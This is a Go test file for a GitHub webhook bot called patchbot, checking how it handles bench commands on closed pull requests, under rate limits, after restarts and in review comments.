		c := comment{ID: int64(i + 1), Body: body, Login: []string{"alice", "bob", "alice"}[i]}
		var m map[string]any
		json.Unmarshal(c.payload(), &m)
		m["issue"].(map[string]any)["state"] = "closed"
		p := must(json.Marshal(m))
		if w := e.serve(request(fmt.Sprint("closed-", i), "issue_comment", p)); w.Code != 200 || !strings.Contains(w.Body.String(), "closed") {
			t.Errorf("%q on a closed pull request: %d %s", body, w.Code, w.Body)
		}
	}
	e.wantJobs()
	if r := e.gh.Requests(); len(r) > 0 {
		t.Errorf("comments on a closed pull request asked GitHub: %q", r)
	}
}

// TestRateLimitDeferred: GitHub refuses the author's permission for its
// rate limit. The delivery is not lost (a 502 GitHub would not redeliver):
// it is answered 202, and the comment is queued to be decided when the
// limit resets; decided then, it makes the job the webhook would have made.
func TestRateLimitDeferred(t *testing.T) {
	e := newEnv(t, true, nil)
	limited := true
	var mu sync.Mutex
	e.gh.SetFault(func(w http.ResponseWriter, r *http.Request) bool {
		mu.Lock()
		defer mu.Unlock()
		if !limited || !strings.Contains(r.URL.Path, "/permission") {
			return false
		}
		w.Header().Set("X-RateLimit-Limit", "5000")
		w.Header().Set("X-RateLimit-Remaining", "0")
		w.Header().Set("X-RateLimit-Reset", fmt.Sprint(time.Now().Add(2*time.Second).Unix()))
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		io.WriteString(w, `{"message":"API rate limit exceeded for user ID 1."}`)
		return true
	})
	body := e.deliver("rl-1", comment{ID: 77, Body: "/patchbot bench"}, http.StatusAccepted)
	if !strings.Contains(body, "rate limit; the comment is decided at") {
		t.Errorf("rate-limited delivery: %q", body)
	}
	j := e.recv()
	if j.Args.Command != queue.CommandDecide || j.Args.Deferred == nil || j.Args.Deferred.Body != "/patchbot bench" || j.Args.Reply != "defer:77" {
		t.Fatalf("queued %s (%+v); want a decide job with the comment", &j.Args, j.Args.Deferred)
	}
	// Still limited: the queue retries the decision.
	if err := e.h.Decide(t.Context(), j); err == nil {
		t.Error("Decide while still rate-limited succeeded")
	}
	mu.Lock()
	limited = false
	mu.Unlock()
	if err := e.h.Decide(t.Context(), j); err != nil {
		t.Fatal(err)
	}
	if b := e.recv(); b.Args.Command != "bench" || b.Args.Revision.String() != head1 || b.Args.Who != "alice" {
		t.Errorf("decided: %s; want alice's bench of %s", &b.Args, head1)
	}
	e.wantJobs("bench github:gopher/codec#7 @ "+head1, "decide github:gopher/codec#7 @ defer:77")
}

// TestHeadNotSeenYet (#44 D4): a command on a head with no record of its
// push while the pull request's earlier heads have one (pushed between
// the comment and its delivery, its pull_request event still on its way)
// is not run at once: the comment is decided again shortly. If the
// event came meanwhile, from a push before the comment, it runs on that
// head; if it still has not, one reply says so and nothing runs.
func TestHeadNotSeenYet(t *testing.T) {
	now := testNow
	e := newEnv(t, true, func(c *Config) {
		c.Heads = c.Queue.(*queue.Queue)
		c.Now = func() time.Time { return now }
	})
	for _, pr := range []int{7, 8} {
		if w := e.serve(request(fmt.Sprint("open-", pr), "pull_request", pullRequestPayloadAt("opened", pr, head1, testNow.Add(-time.Hour)))); w.Code != 200 {
			t.Fatalf("opened #%d: %d %s", pr, w.Code, w.Body)
		}
		e.gh.SetHead(pr, head2) // pushed; its event not delivered yet
	}
	now = testNow.Add(3 * time.Second)

	decideLater := func(id string, c comment) *queue.Job {
		t.Helper()
		body := e.deliver(id, c, http.StatusAccepted)
		if !strings.Contains(body, "the head's push not seen yet; the comment is decided at") {
			t.Errorf("a command on an unseen head: %q; want it decided later", body)
		}
		j := e.recv()
		if j.Args.Command != queue.CommandDecide || j.Args.Deferred == nil || j.Args.Deferred.Until.Before(now.Add(headWait)) {
			t.Fatalf("queued %s (%+v); want a decide job %v from now", &j.Args, j.Args.Deferred, headWait)
		}
		return j
	}

	// #7: the event comes meanwhile, of a push before the comment.
	j := decideLater("u-7", comment{PR: 7, ID: 70, Body: "/patchbot bench"})
	if w := e.serve(request("push-7", "pull_request", pullRequestPayloadAt("synchronize", 7, head2, testNow.Add(-time.Minute)))); w.Code != 200 {
		t.Fatalf("the push's event: %d %s", w.Code, w.Body)
	}
	now = testNow.Add(40 * time.Second)
	if err := e.h.Decide(t.Context(), j); err != nil {
		t.Fatal(err)
	}
	if b := e.recv(); b.Args.Command != "bench" || b.Args.Revision.String() != head2 || b.Args.Request.GitHub.Unverified {
		t.Errorf("decided once the push was seen: %s, unverified %v; want a bench of %s", &b.Args, b.Args.Request.GitHub.Unverified, head2)
	}

	// #8: still no event when it is decided again: declined, once.
	j = decideLater("u-8", comment{PR: 8, ID: 80, Body: "/patchbot bench", At: testNow.Add(40 * time.Second)})
	now = testNow.Add(80 * time.Second)
	if err := e.h.Decide(t.Context(), j); err != nil {
		t.Fatal(err)
	}
	r := e.recv()
	if r.Args.Command != "help" || !strings.Contains(r.Args.Request.Post.Text, "no record of when it was pushed") || !strings.Contains(r.Args.Request.Post.Text, "Nothing was run") {
		t.Errorf("decided with the push still unseen: %s %q; want one reply saying nothing ran", &r.Args, r.Args.Request.Post.Text)
	}
	// The head is recorded then, so the pull request is not stuck on a
	// lost event: a command written afterwards runs on it.
	now = testNow.Add(90 * time.Second)
	e.deliver("u-8-again", comment{PR: 8, ID: 81, Body: "/patchbot bench", At: testNow.Add(85 * time.Second)}, http.StatusAccepted)
	if b := e.recv(); b.Args.Command != "bench" || b.Args.Revision.String() != head2 {
		t.Errorf("a command after the decline: %s; want a bench of %s", &b.Args, head2)
	}
}

// TestRedeliveredAfterRestart (#44 D1): a comment whose command was queued
// is that job's, whenever and however it is delivered again: GitHub's
// Redeliver keeps the delivery id and the comment's created_at, so after
// a restart (no delivery remembered), past MaxCommentAge, and after the
// head moved, it must not be told "Nothing was run: ask again"; nor a
// relay of it under a new delivery id get a second reply.
func TestRedeliveredAfterRestart(t *testing.T) {
	now := testNow.Add(time.Second)
	e := newEnv(t, false, func(c *Config) { c.Now = func() time.Time { return now } })
	e.deliver("d1-first", comment{Body: "/patchbot bench"}, 202)
	first := e.identities(t)
	if len(first) != 1 || !strings.HasPrefix(first[0], "bench github:gopher/codec#7 @ ") {
		t.Fatalf("jobs after the first delivery: %q", first)
	}
	now = testNow.Add(3 * time.Hour) // past MaxCommentAge
	e.gh.SetHead(7, head2)           // and the head moved
	for _, delivery := range []string{"d1-first", "d1-relayed"} {
		h, err := New(e.cfg) // a new process: nothing remembered but the queue
		if err != nil {
			t.Fatal(err)
		}
		w := httptest.NewRecorder()
		h.ServeHTTP(w, request(delivery, "issue_comment", comment{Body: "/patchbot bench"}.payload()))
		if w.Code != 200 || !strings.Contains(w.Body.String(), "has job") {
			t.Errorf("delivery %s again, after a restart: %d %s; want 200, the comment's job", delivery, w.Code, w.Body.String())
		}
	}
	e.wantJobs(first...)
	if n := e.gh.Count("GET /api/v3/repos/gopher/codec/pulls/"); n != 1 {
		t.Errorf("the head was read %d times; want once, for the first delivery", n)
	}
}

// reviewPayload is a pull_request_review (a review's body) or
// pull_request_review_comment (an inline comment) event on #7 of
// gopher/codec.
func reviewPayload(event string, id int64, login, body string) []byte {
	at := testNow.Format(time.RFC3339)
	m := map[string]any{"id": id, "body": body, "user": map[string]any{"login": login, "type": "User"}, "submitted_at": at, "created_at": at}
	p := map[string]any{"pull_request": map[string]any{"number": 7, "state": "open"}, "repository": map[string]any{"full_name": "gopher/codec", "name": "codec"}}
	if event == "pull_request_review" {
		p["action"], p["review"] = "submitted", m
	} else {
		p["action"], p["comment"] = "created", m
	}
	return must(json.Marshal(p))
}

// TestReviewHint (#44): a command written in a review's body or in an
// inline review comment, where patchbot reads none, gets a hint saying
// where to write it, and runs nothing: once per author and pull request,
// however many reviews they write, and whoever they are. A review without
// a command gets nothing, nor one on a closed pull request.
func TestReviewHint(t *testing.T) {
	e := newEnv(t, true, nil)
	for _, tc := range []struct {
		id, event string
		n         int64
		login     string
		body      string
		want      string // in the answer
	}{
		{"rv-1", "pull_request_review", 1, "alice", "LGTM\n\n/patchbot bench", "queued job"},
		{"rv-2", "pull_request_review_comment", 2, "alice", "/patchbot freeze", "duplicate of job"},
		{"rv-3", "pull_request_review_comment", 3, "mallory", "/patchbot bench -count 5", "queued job"},
		{"rv-4", "pull_request_review", 4, "bob", "Looks good.", "ignored"},
	} {
		w := e.serve(request(tc.id, tc.event, reviewPayload(tc.event, tc.n, tc.login, tc.body)))
		if w.Code/100 != 2 || !strings.Contains(w.Body.String(), tc.want) {
			t.Errorf("%s by %s (%q): %d %s; want %q", tc.event, tc.login, tc.body, w.Code, w.Body, tc.want)
		}
	}
	closed := reviewPayload("pull_request_review", 5, "carol", "/patchbot bench")
	closed = bytes.Replace(closed, []byte(`"state":"open"`), []byte(`"state":"closed"`), 1)
	if w := e.serve(request("rv-5", "pull_request_review", closed)); w.Code != 200 || !strings.Contains(w.Body.String(), "not open") {
		t.Errorf("a review on a closed pull request: %d %s; want ignored", w.Code, w.Body)
	}
	for range 2 {
		j := e.recv()
		text := j.Args.Request.Post.Text
		if !j.Args.IsReply() || !strings.Contains(text, "commands in the pull request's conversation only") || !strings.Contains(text, "nothing was run") {
			t.Errorf("queued %s: %q; want a hint that runs nothing", &j.Args, text)
		}
	}
	e.wantJobs("refuse github:gopher/codec#7 @ author:hint--alice", "refuse github:gopher/codec#7 @ author:hint--mallory")
}
